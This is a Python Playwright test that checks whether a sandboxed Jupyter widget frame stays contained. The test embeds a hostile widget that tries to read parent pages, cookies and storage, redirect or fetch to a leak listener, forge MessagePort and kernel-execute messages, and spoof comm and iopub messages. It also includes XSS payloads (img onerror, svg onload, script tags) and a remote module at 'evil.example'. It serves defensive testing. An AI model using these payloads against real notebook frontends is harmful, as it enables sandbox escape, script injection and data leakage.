"""What a widget of a sandboxed kernel tries in its frame does not reach the page or a network."""

from __future__ import annotations

import contextlib
import json
import socketserver
import threading
from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import expect

from tests.browser.sandboxed import SandboxedNotebook

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import FrameLocator

    from tests.browser.lab import Lab
    from tests.browser.server import JupyterServer

pytestmark = pytest.mark.long

WIDGET = """
import anywidget, traitlets
class Hostile(anywidget.AnyWidget):
    _esm = ESM
Hostile()
"""
ATTEMPTS = """
const said = {};
const attempt = async (name, what) => {
  try { said[name] = String(await what()); } catch (error) { said[name] = 'refused'; }
};
export default { async render({ el, model }) {
  await attempt('page', () => top.document.title);
  await attempt('parent', () => parent.parent.document.title);
  await attempt('cookie', () => document.cookie);
  await attempt('storage', () => localStorage.length);
  await attempt('top', () => { top.location = LEAK + 'top'; return top.location.href; });
  await attempt('outer', () => { parent.location = LEAK + 'outer'; return parent.location.href; });
  await attempt('popup', () => open(LEAK + 'popup'));
  await attempt('opener', () => top.opener.location.href);
  await attempt('worker', () => navigator.serviceWorker.register('/sw.js'));
  await attempt('api', async () => (await fetch(JUPYTER + 'api/contents')).status);
  await attempt('fetch', async () => (await fetch(LEAK + 'fetch')).status);
  await attempt('socket', () => new Promise((_, no) => {
    new WebSocket(LEAK.replace('http', 'ws')).onerror = no; }));
  await attempt('module', () => import(LEAK + 'module.js'));
  await attempt('image', () => new Promise((yes, no) => {
    const image = new Image(); image.onload = yes; image.onerror = no;
    image.src = LEAK + 'image'; }));
  await attempt('alert', () => { const before = performance.now(); alert(1);
    if (performance.now() - before > 2000) return 'shown'; throw 1; });
  // The port: every message that is sent leaves by this function.
  const post = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function (...rest) {
    if (!globalThis.port) { globalThis.port = this; }
    return post.apply(this, rest);
  };
  el.style.height = '77px';
  await new Promise(done => setTimeout(done, 300));
  const forged = { method: 'update', state: { value: 'forged' }, buffer_paths: [] };
  const tell = message => globalThis.port.postMessage(message);
  tell({ type: 'send', id: OTHER, message: forged, buffers: [], number: 1 });
  tell({ type: 'send', id: 'sbx-jupyter:widgets', message: forged, buffers: [], number: 2 });
  tell({ type: 'send', id: OTHER, kernel: KERNEL, message: forged, buffers: [], number: 3 });
  tell({ type: 'execute', kernel: KERNEL, code: 'open("forged", "w")' });
  tell({ type: 'get', id: '../x' });
  tell({ type: 'height', height: 1e9 });
  tell('text'); tell(null); tell([1]);
  for (const target of [top, parent, parent.parent]) {
    for (const data of ['sbx-jupyter:frame-ready', { type: 'send', id: OTHER, message: forged }]) {
      target.postMessage(data, '*');
    }
  }
  const line = document.createElement('output');
  line.textContent = JSON.stringify(said);
  el.append(line);
  const button = document.createElement('button');
  button.textContent = 'leave';
  button.onclick = () => { location = LEAK + 'self'; };
  el.append(button);
} };
"""
OTHER = "import ipywidgets; other = ipywidgets.Text('untouched'); print(other.model_id)"
PASSIVE = """
import ipywidgets
from IPython import get_ipython
from IPython.display import display
attack = "top.hacked = 1"
bad = ipywidgets.HTML(f"<img src=x onerror='{attack}; document.title=1'><svg onload='{attack}'/>")
class Remote(ipywidgets.DOMWidget):
    import traitlets
    _model_name = traitlets.Unicode("M").tag(sync=True)
    _view_name = traitlets.Unicode("V").tag(sync=True)
    _model_module = traitlets.Unicode("evil-widget").tag(sync=True)
    _view_module = traitlets.Unicode("evil-widget").tag(sync=True)
    _model_module_version = traitlets.Unicode("1.0.0").tag(sync=True)
    _view_module_version = traitlets.Unicode("1.0.0").tag(sync=True)
display(bad, Remote())
get_ipython().set_next_input("print('next')")
"""
FORGED = """
from comm import create_comm
for target in ("sbx-jupyter:notebook", "jupyter.widget.control", "made-up"):
    create_comm(target_name=target, target_module="https://evil.example/x.js",
                data={"sandbox": "a" * 20, "template": "base", "snapshot": None, "name": ""})
from ipykernel.kernelapp import IPKernelApp
session = IPKernelApp.instance().session
socket = IPKernelApp.instance().iopub_socket
for parent in ({}, {"msg_id": "forged", "session": "forged", "msg_type": "execute_request"}):
    carrier = {"comm_id": "sbx-jupyter:widgets", "data": {"kind": "comm_open"}}
    session.send(socket, "comm_msg", carrier, parent={"header": parent})
    script = {"data": {"text/html": "<script>top.hacked = 1</script>"}, "metadata": {}}
    session.send(socket, "display_data", script, parent={"header": parent})
print("sent")
"""


@contextlib.contextmanager
def listener() -> Iterator[tuple[str, list[str]]]:
    """An address to which nothing may come, and what came."""
    seen: list[str] = []

    class Handler(socketserver.StreamRequestHandler):
        def handle(self) -> None:
            # Browsers may open a connection before the policy refuses the request.
            if line := self.rfile.readline():
                seen.append(line.decode("latin-1"))

    class Server(socketserver.ThreadingTCPServer):
        daemon_threads = True  # connections without a request stay open
        block_on_close = False

    with Server(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_address[1]}/", seen
        server.shutdown()


def constants(**values: str) -> str:
    return "".join(f"const {name} = {json.dumps(value)};\n" for name, value in values.items())


def attempts(frame: FrameLocator) -> dict[str, str]:
    """What each attempt of the frame came to."""
    line = frame.locator("output")
    line.wait_for()
    return json.loads(line.text_content() or "")


def test_a_hostile_widget_reaches_its_own_kernel_only(lab: Lab, server: JupyterServer) -> None:
    page = lab.page
    with listener() as (leak, leaked):
        notebook = SandboxedNotebook(
            lab, server, "hostile-widget.ipynb", OTHER, "", PASSIVE, FORGED, "print(other.value)"
        )
        notebook.run(0)
        other = notebook.output(0).locator(".jp-OutputArea-output pre")
        expect(other).not_to_be_empty()
        kernel = page.evaluate("jupyterapp.shell.currentWidget.sessionContext.session.kernel.id")
        known = constants(
            LEAK=leak, JUPYTER=server.url, KERNEL=kernel, OTHER=other.inner_text().strip()
        )
        source = WIDGET.replace("ESM", repr(known + ATTEMPTS))
        page.evaluate(
            "source => jupyterapp.shell.currentWidget.content.widgets[1].model.sharedModel"
            ".setSource(source)",
            source,
        )
        popups: list[str] = []
        page.context.on("page", lambda opened: popups.append(opened.url))

        notebook.run(1)
        said = attempts(notebook.frame(1))
        opened = said.pop("popup")
        notebook.run(2)
        passive = notebook.output(2).frame_locator("iframe.sbx-WidgetFrame").last
        expect(passive.frame_locator("iframe").locator("body")).to_contain_text(
            "Click to show javascript error"
        )
        # The kernel has put a cell before this one, which nobody has run.
        expect(notebook.output(3)).to_contain_text("print('next')")
        notebook.run(4)
        expect(notebook.output(4)).to_contain_text("sent")
        # The frame leaves for another address: its parent's policy refuses.
        notebook.frame(1).get_by_role("button", name="leave").click()
        notebook.run(5)
        expect(notebook.output(5)).to_contain_text("untouched")

    assert opened in ("null", "refused")
    assert set(said.values()) == {"refused"}, said
    assert (leaked, popups) == ([], []), (leaked, popups)
    # The browser reports requests that a policy refused, too.
    lab.requests[:] = [url for url in lab.requests if not url.startswith(leak)]
    assert page.evaluate("[window.hacked, location.pathname.includes('/lab')]") == [None, True]
    assert page.evaluate("document.title") != "1"
    height = notebook.output(1).locator("iframe.sbx-WidgetFrame").bounding_box()
    assert height is None or height["height"] <= 2000
    assert (
        page.evaluate(
            "() => jupyterapp.shell.currentWidget.content.model.getMetadata('sbx_jupyter') ?? null"
        )
        is None
    )
    lab.errors[:] = [e for e in lab.errors if "null" not in e and "sandboxed" not in e]
    notebook.close()
